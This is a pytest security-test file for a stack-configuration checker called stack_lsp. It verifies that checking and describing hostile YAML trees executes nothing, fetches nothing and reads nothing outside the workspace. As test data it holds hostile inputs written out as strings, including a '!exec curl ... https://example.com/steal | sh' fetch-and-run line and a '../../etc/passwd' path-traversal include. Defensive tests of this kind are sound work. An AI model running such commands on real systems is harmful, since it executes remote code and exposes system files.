"""`--check` and `describe` on hostile trees: nothing is executed or fetched (YAML functions,
templates, remote imports, `!include` URLs, remote `$ref`s in schemas), values are shown as
written, the size limit is a flag, schemas outside the tree or not regular files are refused."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest
from stack_lsp.cli import main as cli_main

from tests.conftest import write_tree
from tests.hostile import functions_tree, no_side_effects  # noqa: F401  (fixture)

OUTSIDE = "resolves outside the workspace; it is not read"


def run(
    root: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], *args: str
) -> tuple[int, list[str]]:
    monkeypatch.chdir(root)
    code = cli_main(["check", "--jobs", "1", *args])
    out, _ = capsys.readouterr()
    return code, out.splitlines()


@pytest.fixture
def functions(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = functions_tree(tmp_path)
    monkeypatch.chdir(root)
    return root


def test_check_and_describe_execute_and_fetch_nothing(
    functions: Path,
    capsys: pytest.CaptureFixture[str],
    no_side_effects: list[str],  # noqa: F811
) -> None:
    root = functions
    code = cli_main(["check", "--jobs", "1"])
    lines = capsys.readouterr().out.splitlines()
    assert no_side_effects == []
    assert not (root / "pwned").exists()
    assert code == 1
    assert lines[:-1] == [
        "stacks/deploy/dev.yaml:3:5: info STK130 import 'https://example.com/stacks/remote' is "
        "remote: not fetched, so its content is not in this stack",
        "stacks/deploy/dev.yaml:13:26: error STK303 schema 'schemas/remote.json' cannot be "
        "evaluated: Unresolvable: https://example.com/vars.schema.json",
        "stacks/deploy/dev.yaml:16:12: info STK131 !include 'https://example.com/x.yaml' is "
        "remote: not fetched, kept as written",
        "stacks/deploy/dev.yaml:17:12: info STK131 !include "
        "'git::https://github.com/acme/infra//vars.yaml?ref=v1' is remote: not fetched, kept as "
        "written",
        f"stacks/deploy/dev.yaml:29:12: error STK105 !include '../../../../../../../etc/passwd' "
        f"{OUTSIDE}",
    ]
    # describe shows every function as written
    assert cli_main(["describe", "component", "vpc", "-s", "dev", "--format", "json"]) == 0
    out = capsys.readouterr().out
    assert no_side_effects == []
    assert not (root / "pwned").exists()
    for written in [
        f'"a": "!exec touch {root}/pwned"',
        '"b": "!include https://example.com/x.yaml"',
        '"f": "!store ssm /acme/secret key"',
        '"g": "!env HOME"',
        '"o": "!include ../../../../../../../etc/passwd"',
        '"x": "!exec curl -s https://example.com/steal | sh"',
        f'"i": "{{{{ exec \\"touch\\" (list \\"{root}/pwned\\") }}}}"',
    ]:
        assert written in out


def test_max_file_bytes_flag(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    body = "vars:\n  stage: dev\n" + "".join(f"  k{i}: {i}\n" for i in range(100))
    write_tree(tmp_path, {"stacks/deploy/dev.yaml": body})
    size = (tmp_path / "stacks/deploy/dev.yaml").stat().st_size
    code, lines = run(tmp_path, monkeypatch, capsys, "--max-file-bytes", "500")
    assert code == 1
    assert lines[0] == (
        f"stacks/deploy/dev.yaml:1:1: error STK004 file is {size:,} bytes, over the 500-byte "
        "limit; it is skipped (raise the limit with `--max-file-bytes` or the `maxFileBytes` "
        "setting)"
    )
    code, lines = run(tmp_path, monkeypatch, capsys, "--max-file-bytes", str(size))
    assert code == 0 and lines[0].startswith("no problems in 1 files")
    code, lines = run(tmp_path, monkeypatch, capsys)  # the default: 4 MiB
    assert code == 0
    monkeypatch.chdir(tmp_path)
    assert cli_main(["check", "--max-file-bytes", "0"]) == 2
    assert capsys.readouterr().err == "stack-lsp: --max-file-bytes must be 1 or more\n"


def test_schema_paths_outside_the_tree_or_not_files_are_not_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    template = """
        vars: {{stage: {stage}}}
        components:
          terraform:
            vpc:
              settings:
                validation:
                  check:
                    schema_type: jsonschema
                    schema_path: {path}
        """
    outside = tmp_path / "outside.json"
    outside.write_text('{"type": "object"}')
    root = tmp_path / "ws"
    write_tree(
        root,
        {
            "stacks/deploy/dev.yaml": template.format(stage="dev", path=outside),
            "stacks/deploy/prod.yaml": template.format(stage="prod", path="schemas/zero.json"),
            "stacks/deploy/qa.yaml": template.format(stage="qa", path="schemas/fifo.json"),
        },
    )
    (root / "schemas").mkdir()
    (root / "schemas/zero.json").symlink_to("/dev/zero")
    os.mkfifo(root / "schemas/fifo.json")
    started = time.perf_counter()
    code, lines = run(root, monkeypatch, capsys)
    assert time.perf_counter() - started < 10
    assert code == 1
    assert lines[:-1] == [
        f"stacks/deploy/dev.yaml:9:26: error STK105 schema '{outside}' of validation 'check' "
        f"{OUTSIDE}",
        "stacks/deploy/prod.yaml:9:26: error STK105 schema 'schemas/zero.json' of validation "
        f"'check' {OUTSIDE}",
        "stacks/deploy/qa.yaml:9:26: error STK303 schema 'schemas/fifo.json' of validation "
        "'check' is not a regular file (looked up as schemas/fifo.json)",
    ]
